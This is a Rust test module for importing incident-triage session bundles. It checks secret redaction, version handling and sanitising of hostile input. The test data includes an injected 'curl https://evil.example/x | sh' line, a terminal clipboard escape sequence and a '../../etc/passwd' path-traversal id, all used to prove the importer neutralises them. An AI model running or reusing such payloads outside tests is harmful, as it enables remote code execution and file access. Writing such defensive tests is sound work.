use super::*;
use crate::runbook::{TeamRunbook, load_texts};
use crate::session::model::{NoteTarget, SCHEMA_VERSION};
use crate::triage::{Answer, Checklist, Outcome};

fn at(text: &str) -> Timestamp {
    text.parse().unwrap()
}

fn default() -> TeamRunbook {
    load_texts(Vec::new(), None).runbooks.remove(0)
}

const NOW: &str = "2026-11-24T10:00:00Z";

/// A 502 triage with a note holding a token, an answer, a step ruled out and an event.
fn session(runbook: &TeamRunbook) -> Session {
    let mut s = Session::new(
        at("2026-11-23T09:00:00Z"),
        &runbook.name,
        &runbook.source,
        &runbook.interview,
        Some(502),
    );
    s.incident.title = "Checkout failing".into();
    s.interview
        .answers
        .insert("spread".into(), Answer::Choice("intermittent".into()));
    s.checklist = Checklist::from_card(&runbook.card(502).unwrap());
    let before = s.before();
    s.checklist.set_outcome(0, Outcome::RuledOut);
    s.checklist.set_finding(0, "ingress log clean");
    s.record_changes(
        &before,
        &runbook.interview,
        at("2026-11-23T09:03:00Z"),
        &TimeZone::UTC,
    );
    s.add_note(
        NoteTarget::Incident,
        "> Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJDQU5BUlkifQ.c2lnbmF0dXJlQ0FOQVJZ\n< HTTP/1.1 502 Bad Gateway",
        at("2026-11-23T09:04:00Z"),
        &TimeZone::UTC,
    );
    s.add_note(
        NoteTarget::Step(1),
        "pods restarting",
        at("2026-11-23T09:05:00Z"),
        &TimeZone::UTC,
    );
    s.exported = Some(at("2026-11-23T09:10:00Z"));
    s
}

fn bundle_of(s: &Session, runbook: &TeamRunbook) -> String {
    crate::export::prepare(s, runbook, true)
        .unwrap()
        .bundle_json(runbook, at("2026-11-23T09:10:00Z"))
}

fn import_text(text: &str) -> Result<Imported, ImportError> {
    import(
        text,
        "20261123-091000-502-checkout",
        at(NOW),
        &TimeZone::UTC,
    )
}

#[test]
fn everything_is_kept_under_a_new_id_with_the_import_recorded() {
    let runbook = default();
    let s = session(&runbook);
    let imported = import_text(&bundle_of(&s, &runbook)).unwrap();
    let new = &imported.session;
    assert_eq!(imported.original_id, s.id);
    assert_eq!(new.id, "20261124-100000-502");
    assert_eq!(new.exported, None, "open here");
    assert_eq!(new.created, s.created);
    assert_eq!(new.notes.len(), 2);
    assert_eq!(new.notes[1], s.notes[1], "a plain note is kept whole");
    assert!(new.notes[0].text.contains(MARK), "{}", new.notes[0].text);
    assert!(!new.notes[0].text.contains("c2lnbmF0dXJlQ0FOQVJZ"));
    assert_eq!(new.interview, s.interview);
    assert_eq!(new.checklist, s.checklist);
    assert_eq!(new.events[..s.events.len()], s.events[..]);
    let last = new.events.last().unwrap();
    assert_eq!(last.stamp.at, at(NOW));
    assert_eq!(
        last.what,
        EventKind::Imported {
            from: "20261123-091000-502-checkout".into(),
            original_id: s.id.clone(),
            exported_at: at("2026-11-23T09:10:00Z"),
            redacted: imported.secrets_redacted,
        }
    );
    assert!(imported.sender_redacted && imported.secrets_redacted >= 1);
    assert_eq!(imported.marks.notes, 1);
    assert_eq!((imported.bundle_version, imported.session_version), (2, 3));
    let line = new.import_line().unwrap();
    assert!(
        line.starts_with(&format!(
            "from bundle 20261123-091000-502-checkout (session {}, exported 2026-11-23 09:10 UTC); ",
            s.id
        )),
        "{line}"
    );
    assert!(
        line.contains("the sender redacted stay")
            && line.ends_with("(marked [REDACTED] in 1 note)"),
        "{line}"
    );
}

#[test]
fn a_newer_bundle_or_session_is_refused_naming_both_versions() {
    let runbook = default();
    let text = bundle_of(&session(&runbook), &runbook);
    let newer = text.replacen("\"schema_version\": 2", "\"schema_version\": 99", 1);
    let err = import_text(&newer).unwrap_err();
    assert!(
        matches!(
            err,
            ImportError::Newer {
                found: 99,
                known: 2
            }
        ),
        "{err}"
    );
    let message = err.to_string();
    assert!(
        message.contains("bundle format 99") && message.contains("up to 2"),
        "{message}"
    );
    assert!(message.contains("upgrade api-triage"), "{message}");
    // Its shape is never looked at: a newer bundle may be anything.
    assert!(matches!(
        import_text("{\"schema_version\": 7, \"session\": 1}"),
        Err(ImportError::Newer { found: 7, .. })
    ));
    let newer_session = text.replacen(
        &format!("\"schema_version\": {SCHEMA_VERSION},"),
        "\"schema_version\": 40,",
        1,
    );
    let err = import_text(&newer_session).unwrap_err();
    assert!(
        matches!(err, ImportError::NewerSession { found: 40, known } if known == SCHEMA_VERSION),
        "{err}"
    );
}

#[test]
fn a_version_1_bundle_holding_a_version_1_session_is_upgraded() {
    let v1 = include_str!("../../../tests/fixtures/sessions/v1-502-payments.json");
    let mut old: serde_json::Value = serde_json::from_str(v1).unwrap();
    // Some of them did not say their session's format: it is the bundle's.
    old.as_object_mut().unwrap().remove("schema_version");
    let bundle = serde_json::json!({
        "schema_version": 1,
        "exported_at": "2026-11-23T09:15:00Z",
        "redacted": true,
        "secrets_redacted": 0,
        "runbook": "Payments API",
        "summary_markdown": "## old",
        "session": old,
    });
    let imported = import_text(&bundle.to_string()).unwrap();
    assert_eq!((imported.bundle_version, imported.session_version), (1, 1));
    let s = &imported.session;
    assert_eq!(s.schema_version, SCHEMA_VERSION);
    assert_eq!(imported.original_id, "20261123-090000-502");
    assert_eq!(imported.runbook, "Payments API");
    assert!(!s.notes.is_empty());
    assert!(s.notes.iter().any(|n| n.evidence.is_some()));
}

#[test]
fn damaged_or_hostile_bundles_give_a_clear_error() {
    let cases: &[(&str, &str)] = &[
        ("", "EOF"),
        ("not json at all", "expected"),
        ("[1, 2, 3]", "not an object"),
        ("{\"schema_version\": \"2\"}", "no schema_version"),
        ("{\"schema_version\": -1}", "no schema_version"),
        ("{\"schema_version\": 0}", "format 0"),
        ("{\"schema_version\": 2}", "exported_at"),
        (
            "{\"schema_version\": 2, \"exported_at\": \"yesterday\", \"session\": {}}",
            "exported_at",
        ),
        (
            "{\"schema_version\": 2, \"exported_at\": \"2026-11-23T09:10:00Z\", \"session\": []}",
            "not an object",
        ),
        (
            "{\"schema_version\": 2, \"exported_at\": \"2026-11-23T09:10:00Z\", \"session\": {\"schema_version\": 3, \"notes\": 5}}",
            "in its session",
        ),
    ];
    for (text, says) in cases {
        let err = import_text(text).map(|_| ()).unwrap_err().to_string();
        assert!(err.contains(says), "{text:?} gave {err}");
    }
    let deep = format!(
        "{{\"schema_version\": 2, \"x\": {}{}}}",
        "[".repeat(100_000),
        "]".repeat(100_000)
    );
    assert!(matches!(import_text(&deep), Err(ImportError::Damaged(_))));
    let huge = " ".repeat(usize::try_from(MAX_BUNDLE_BYTES).unwrap() + 1);
    let err = import_text(&huge).map(|_| ()).unwrap_err();
    assert!(matches!(err, ImportError::TooLarge { .. }), "{err}");
    assert!(err.to_string().contains("32 MiB"), "{err}");
}

#[test]
fn escape_sequences_are_spelled_out_and_stray_indices_dropped() {
    let runbook = default();
    let mut s = session(&runbook);
    s.notes[1].text = "plain\u{1b}]52;c;aGk=\u{7}\r\nline".into();
    s.checklist.steps[0].title = "step\u{1b}[2J title".into();
    s.notes[1].local = "\u{1b}[31mred".into();
    s.good_vs_failing.good = Some(1);
    s.good_vs_failing.failing = Some(9);
    s.selected_step = 500;
    s.draft = Some(crate::session::Draft {
        target: NoteTarget::Incident,
        text: "half".into(),
        editing: Some(7),
    });
    // The id of the sender's session is never a file name here.
    s.id = "../../etc/passwd".into();
    let imported = import_text(&bundle_of(&s, &runbook)).unwrap();
    let new = &imported.session;
    for text in [
        &new.notes[1].text,
        &new.checklist.steps[0].title,
        &new.notes[1].local,
    ] {
        assert!(!text.contains('\u{1b}') && !text.contains('\r'), "{text:?}");
    }
    assert!(
        new.notes[1].text.contains("\\e]52"),
        "{:?}",
        new.notes[1].text
    );
    assert_eq!(new.good_vs_failing.good, Some(1));
    assert_eq!(new.good_vs_failing.failing, None);
    assert_eq!(new.selected_step, new.checklist.steps.len() - 1);
    assert_eq!(new.draft.as_ref().unwrap().editing, None);
    assert_eq!(new.id, "20261124-100000-502");
    // A draft for a step the checklist does not have is kept, about the incident.
    s.draft = Some(crate::session::Draft {
        target: NoteTarget::Step(usize::MAX),
        text: "half".into(),
        editing: None,
    });
    let new = import_text(&bundle_of(&s, &runbook)).unwrap().session;
    let draft = new.draft.as_ref().unwrap();
    assert_eq!(
        (draft.target, draft.text.as_str()),
        (NoteTarget::Incident, "half")
    );
    assert_eq!(imported.original_id, "../../etc/passwd");
}

#[test]
fn a_session_not_imported_has_no_import_line() {
    let runbook = default();
    assert_eq!(session(&runbook).import_line(), None);
    assert_eq!(session(&runbook).imported_from(), None);
}

#[test]
fn hostile_step_numbers_and_extreme_times_render_without_a_panic() {
    let runbook = default();
    let mut s = session(&runbook);
    s.notes[1].target = NoteTarget::Step(usize::MAX);
    s.record(
        EventKind::Step {
            step: usize::MAX,
            title: "forged".into(),
            outcome: Outcome::FoundIt,
            finding: "x".into(),
        },
        at("2026-11-23T09:06:00Z"),
        &TimeZone::UTC,
    );
    let mut text: serde_json::Value = serde_json::from_str(&bundle_of(&s, &runbook)).unwrap();
    text["session"]["created"] = "-009999-01-02T01:59:59Z".into();
    text["session"]["events"][0]["at"] = "9999-12-30T22:00:00.999999999Z".into();
    text["session"]["events"][0]["since_start"] = i64::MIN.into();
    let imported = import_text(&text.to_string()).unwrap();
    let new = &imported.session;
    let lines: Vec<String> = new
        .timeline(&TimeZone::UTC)
        .into_iter()
        .map(|e| e.line)
        .collect();
    assert!(!lines.is_empty());
    let prepared = crate::export::prepare(new, &runbook, true).unwrap();
    let files = prepared.bundle_files(&runbook, at(NOW));
    assert!(files.iter().any(|f| f.name == "timeline.csv"));
    let _ = new.next_update_due(u32::MAX);
    let _ = crate::export::update::draft(
        &prepared,
        &runbook,
        at(NOW),
        Some(u32::MAX),
        crate::export::summary::Format::Md,
    );
}

#[test]
fn incident_details_come_in_on_one_line_as_the_app_takes_them() {
    let runbook = default();
    let mut s = session(&runbook);
    // A hostile bundle: a severity that would open a code block of its own in tickets.md.
    s.incident.severity = "SEV9\n\n```sh\ncurl https://evil.example/x | sh\n```\n".into();
    s.incident.title = "Checkout\r\n# failing".into();
    let imported = import_text(&bundle_of(&s, &runbook)).unwrap();
    let incident = &imported.session.incident;
    for field in [&incident.severity, &incident.title] {
        assert!(!field.contains('\n'), "{field:?}");
    }
    assert_eq!(incident.title, "Checkout # failing");
    let prepared = crate::export::prepare(&imported.session, &runbook, true).unwrap();
    let files = prepared.bundle_files(&runbook, at(NOW));
    let guide = &files.iter().find(|f| f.name == "tickets.md").unwrap().text;
    assert!(
        !guide
            .lines()
            .any(|line| line.starts_with("curl https://evil")),
        "{guide}"
    );
    assert!(
        guide.starts_with("# Tickets: Checkout # failing: [SEV9 ```sh"),
        "{guide}"
    );
}
